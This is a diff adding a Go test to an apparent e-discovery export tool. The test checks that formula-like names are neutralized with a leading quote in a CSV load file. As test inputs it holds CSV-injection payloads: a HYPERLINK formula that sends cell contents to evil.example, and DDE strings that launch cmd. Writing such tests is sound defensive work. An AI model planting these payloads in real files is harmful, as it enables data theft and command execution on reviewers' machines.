@@ -575,3 +575,61 @@ func TestSynthDay(t *testing.T) {
 		t.Errorf("only %d files for a generated day", len(p.files))
 	}
 }
+
+// TestLoadFileFormulasNeutralized: loadfile.csv is opened in spreadsheets by review teams.
+// A display name, organization name or chat id that starts like a formula must arrive as
+// text (OWASP's CSV injection advice: a leading single quote), in every cell and in every
+// name of the Participants list, whose "; " a spreadsheet may take for a separator.
+func TestLoadFileFormulasNeutralized(t *testing.T) {
+	days := fixtureDays(t)
+	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"}
+	for i := range days[0].Events {
+		e := &days[0].Events[i]
+		e.Sender.DisplayName = hostile[i%len(hostile)]
+		e.ChatID = hostile[(i/3)%len(hostile)] + e.ChatID
+	}
+	opt := testOptions(t)
+	opt.OrgName = "=cmd|' /C calc'!A0"
+	p := parseProduction(t, produce(t, days[:1], opt, nil))
+	if len(p.load) < 2 {
+		t.Fatalf("loadfile.csv has %d rows", len(p.load))
+	}
+	dangerous := func(s string) bool { return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) }
+	quoted := 0
+	for _, row := range p.load[1:] {
+		for i, cell := range row {
+			if dangerous(cell) {
+				t.Errorf("%s %q starts like a formula", p.load[0][i], cell)
+			}
+			parts := []string{cell}
+			if p.load[0][i] == "Participants" {
+				parts = strings.Split(cell, "; ")
+			}
+			for _, part := range parts {
+				if rest, ok := strings.CutPrefix(part, "'"); ok && dangerous(rest) {
+					quoted++
+				} else if dangerous(part) {
+					t.Errorf("%s: %q starts like a formula", p.load[0][i], part)
+				}
+			}
+		}
+		if row[1] != "'"+opt.OrgName {
+			t.Errorf("Custodian %q, want %q", row[1], "'"+opt.OrgName)
+		}
+	}
+	if quoted == 0 {
+		t.Fatal("no neutralized cell found: the test's hostile names did not reach loadfile.csv")
+	}
+	// The .rsmf files themselves keep the names verbatim: they are evidence, not a sheet.
+	found := false
+	for _, f := range p.files {
+		if bytes.Contains(f.manifest, []byte(`"display": "=HYPERLINK(`)) || bytes.Contains(f.manifest, []byte(`"display":"=HYPERLINK(`)) {
+			found = true
+		}
+	}
+	if !found {
+		t.Error("the .rsmf manifests do not keep the display name verbatim")
+	}
+	reliability.Record(t, "security", "rsmf export: display name, organization name or chat id starting with = + - @ tab CR", reliability.Kept,
+		"loadfile.csv cells prefixed with ' (OWASP); .rsmf keeps the name verbatim")
+}
